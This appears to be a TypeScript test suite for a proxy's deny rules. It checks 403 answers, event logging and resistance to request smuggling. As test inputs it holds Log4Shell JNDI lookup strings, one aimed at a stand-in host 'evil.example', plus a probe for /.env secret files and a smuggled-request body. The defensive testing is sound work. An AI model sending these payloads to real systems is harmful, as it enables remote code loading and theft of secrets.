/** What happens to a request that meets a deny rule. */
import assert from 'node:assert/strict';
import { afterEach, describe, it } from 'node:test';
import { answerOf, RawBackend } from '../../support/raw-peer.ts';
import { get, TestPlane } from '../../support/start-data-plane.ts';

let test: TestPlane;
afterEach(() => test.stop());

const deny = [{ name: 'log4shell' }, { name: 'dotenv', pattern: '/\\.env' }];

describe('a request that meets a deny rule', () => {
  it('is answered 403 without the name of the rule, and no backend is asked', async () => {
    const backend = await RawBackend.answering(() => answerOf('hi'));
    test = await TestPlane.start({ backends: [backend], listener: { deny } });
    const attack = 'X-Api-Version: $' + '{$' + '{lower:j}ndi:ldap://127.0.0.1/a}\r\n';
    for (const request of [get('/', attack), get('/?x=%24%7Bjndi:x%7D'), get('/.env')]) {
      const answer = await test.ask(request.replace('\r\n\r\n', '\r\nConnection: close\r\n\r\n'));
      assert.match(answer, /^HTTP\/1\.1 403 Forbidden\r\n/);
      assert.doesNotMatch(answer, /log4shell|dotenv|jndi/);
    }
    assert.equal(backend.peers.length, 0);
    assert.deepEqual(test.plane.snapshot().deniedTotal, { log4shell: 2, dotenv: 1 });
    assert.deepEqual(test.plane.snapshot().answersTotal, { 403: 3 });
  });

  it('is told of by an event with the rule, not with the attack', async () => {
    test = await TestPlane.start({ listener: { deny } });
    const client = await test.client();
    for (let i = 1; i <= 3; i++) {
      client.send(get('/?x=$%7bjndi:ldap://evil.example}', `X-Request-Id: r${i}\r\n`));
      await client.until('403 Forbidden\r\n', i);
    }
    const told = test.events.filter(event => event.kind === 'request-denied');
    // The three may fall into two different seconds of a slow machine, but not into three.
    assert.ok(told.length === 1 || told.length === 2);
    assert.match(
      told[0]?.cause ?? '',
      /^request r1 of 127\.0\.0\.1 met the deny rule "log4shell"$/,
    );
    assert.doesNotMatch(JSON.stringify(told), /jndi|evil/);
  });

  it('leaves the connection usable, and the requests without an attack alone', async () => {
    const backend = await RawBackend.answering(() => answerOf('hi'));
    test = await TestPlane.start({ backends: [backend], listener: { deny } });
    const client = await test.client();
    client.send(get('/.env') + get('/environment'));
    const received = await client.until('hi');
    assert.match(received, /^HTTP\/1\.1 403 .*HTTP\/1\.1 200 OK/s);
    assert.equal(backend.requests.length, 1);
  });

  it('keeps its body from being taken for a request', async () => {
    test = await TestPlane.start({ listener: { deny } });
    const client = await test.client();
    const body = 'GET /smuggled HTTP/1.1\r\nHost: web\r\n\r\n';
    client.send(
      `POST /.env HTTP/1.1\r\nHost: web\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
    );
    client.send(get('/.env', 'Connection: close\r\n'));
    const received = await client.ended();
    assert.equal(received.split('HTTP/1.1 403').length, 3);
    assert.equal(received.split('HTTP/1.1').length, 3);
  });
});
